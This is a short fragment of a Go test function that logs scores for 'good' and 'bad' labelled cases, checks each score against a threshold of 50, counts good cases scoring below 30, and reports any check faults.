			t.Logf("FIGURES %-4s %5.1f  %s: %s", kind, r.Score, l.name, strings.Join(names, " "))
			switch ok := right(r.Score); {
			case l.wrong != "" && ok:
				t.Errorf("%s (%s): score %.1f is right now: take away what says that it is wrong", l.name, kind, r.Score)
			case l.wrong != "":
				t.Logf("FIGURES WRONG: %s: %s", l.name, l.wrong)
			case !ok:
				t.Errorf("%s (%s): score %.1f", l.name, kind, r.Score)
			}
			if r.Score < 30 {
				wide++
			}
			for _, f := range r.Faults {
				t.Errorf("%s: fault of %s: %.500s", l.name, f.Check, f.Error)
			}
		}
	}
	hold(good, "good", func(score float64) bool { return score < 50 })
	t.Logf("FIGURES %d of %d good ones below 30", wide, len(good))
	hold(bad, "bad", func(score float64) bool { return score > 50 })
}
